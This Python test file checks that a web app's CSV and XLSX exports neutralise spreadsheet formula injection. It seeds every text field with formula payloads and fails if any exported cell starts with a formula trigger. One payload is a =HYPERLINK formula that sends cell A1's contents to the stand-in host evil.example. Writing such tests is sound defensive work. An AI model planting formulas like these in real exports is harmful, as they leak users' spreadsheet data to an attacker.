"""Formula payloads through every export: every free-text column of every model holds a
formula, then every CSV and XLSX the app serves (found by content type over every GET
route, every dashboard table, and the POST downloads) is read back: no cell may start with
a formula trigger, no XLSX cell may be a formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.security import routes
from tests.security.payloads import fill
from tests.security.world import coordinator_client
from webapp.services.spreadsheet import FORMULA_TRIGGERS, csv_bytes, safe_cell

CSV_TYPES = ("text/csv",)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x{i}")', "+1+{i}", "-2+{i}", "@SUM(A{i})",
            "\t=1+{i}", "\r=2+{i}"]


def formula(i: int, length: int) -> str:
    return FORMULAS[i % len(FORMULAS)].format(i=i)[:length]


def csv_problems(body: bytes, where: str) -> list[str]:
    text = body.decode("utf-8-sig")
    return [f"{where}: cell {cell!r}" for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_TRIGGERS)]


def xlsx_problems(body: bytes, where: str) -> list[str]:
    problems = []
    workbook = load_workbook(io.BytesIO(body))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)):
                    problems.append(f"{where}: {sheet.title}!{cell.coordinate} {cell.value!r}")
    return problems


FORMATS = ("csv", "xlsx", "json", "xml")


def variants(rule, side, values: dict):
    """The rule's URL for every value of its constant arguments that name a table or a format."""
    names = [name for name in values if name in rule.arguments
             and name not in routes.ENDPOINT_ARGUMENTS.get(rule.endpoint, {})]
    if not names:
        yield routes.url_for_rule(rule, side)
        return
    name = names[0]
    saved = routes.ARGUMENTS[name]
    try:
        for value in values[name]:
            routes.ARGUMENTS[name] = routes.Const(value)
            yield routes.url_for_rule(rule, side)
    finally:
        routes.ARGUMENTS[name] = saved


def check(response, where, problems, seen):
    if response.mimetype in CSV_TYPES:
        seen.append(where)
        problems += csv_problems(response.data, where)
    elif response.mimetype == XLSX_TYPE:
        seen.append(where)
        problems += xlsx_problems(response.data, where)


def test_no_export_carries_a_formula(app, world):
    from webapp.services.exports import TABLES

    written = fill(app, formula)
    assert any(v.startswith("=HYPERLINK") for v in written.values())
    client = coordinator_client(app, world.alice)
    problems, seen = [], []
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if routes.role_of(rule.endpoint) != "coordinator" or "GET" not in rule.methods:
            continue
        for url in variants(rule, world.alice, {"table": TABLES, "fmt": FORMATS}):
            check(client.get(url), url, problems, seen)
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if routes.role_of(rule.endpoint) == "api_key":
            for url in variants(rule, world.alice, {"fmt": FORMATS}):
                check(client.get(url, headers={"X-API-Key": world.alice.api_key}), url, problems, seen)
    # the links CSV is a GET (it never changes a link), covered by the first loop
    # every table, the workbook, the indicators, the links file, the weights CSV and XLSX (page and API), the evaluation template
    assert len(seen) >= len(TABLES) + 8, seen
    assert not problems, "\n".join(problems)


def test_the_escaped_text_is_still_there():
    body = csv_bytes(["h"], [["=1+1"], ["-3"], [-3], ["plain"], ["'=x"]]).decode("utf-8-sig")
    assert body.splitlines() == ["h", "'=1+1", "'-3", "-3", "plain", "''=x"]
    assert safe_cell(2.5) == 2.5 and safe_cell(None) is None
